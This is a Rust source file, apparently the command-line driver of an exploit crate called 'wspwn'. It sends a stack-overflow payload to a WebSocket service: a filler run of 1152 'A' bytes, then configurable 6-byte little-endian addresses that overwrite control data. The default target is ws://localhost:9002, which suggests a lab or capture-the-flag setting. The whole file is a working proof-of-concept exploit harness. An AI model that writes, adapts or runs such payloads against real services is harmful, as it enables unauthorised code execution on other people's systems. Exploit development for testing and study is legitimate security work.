use clap::Parser;
use wspwn::poc::PocConfig;

/// Send one overflow payload to a WebSocket service and print the reply.
///
/// With no flags this sends the stock payload: 1152 bytes of 'A' followed
/// by three 6-byte little-endian addresses, delivered to
/// ws://localhost:9002.
#[derive(Parser)]
struct Opts {
    /// Target endpoint.
    #[clap(long, default_value = "ws://localhost:9002")]
    url: String,

    /// Byte repeated to fill the buffer up to the control-data region (65 = 'A').
    #[clap(long, default_value = "65")]
    filler_byte: u8,

    /// Length of the filler run.
    #[clap(long, default_value = "1152")]
    filler_len: usize,

    /// Address written into the control-data region as a 6-byte
    /// little-endian field, e.g. 0x7ffff7850d70. Repeatable; order is
    /// preserved on the wire. Defaults to the three scripted addresses.
    #[clap(long = "address", parse(try_from_str = parse_address))]
    addresses: Vec<u64>,
}

fn parse_address(s: &str) -> std::result::Result<u64, String> {
    let digits = s.trim_start_matches("0x");
    u64::from_str_radix(digits, 16).map_err(|e| format!("bad address {:?}: {}", s, e))
}

#[tokio::main]
async fn main() -> wspwn::error::Result<()> {
    tracing_subscriber::fmt::init();
    let opts = Opts::parse();

    let mut config = PocConfig {
        url: opts.url,
        filler_byte: opts.filler_byte,
        filler_len: opts.filler_len,
        addresses: opts.addresses,
    };
    if config.addresses.is_empty() {
        config.addresses = wspwn::poc::DEFAULT_ADDRESSES.to_vec();
    }

    let reply = config.run().await?;
    println!("Received: {}", String::from_utf8_lossy(&reply));
    Ok(())
}
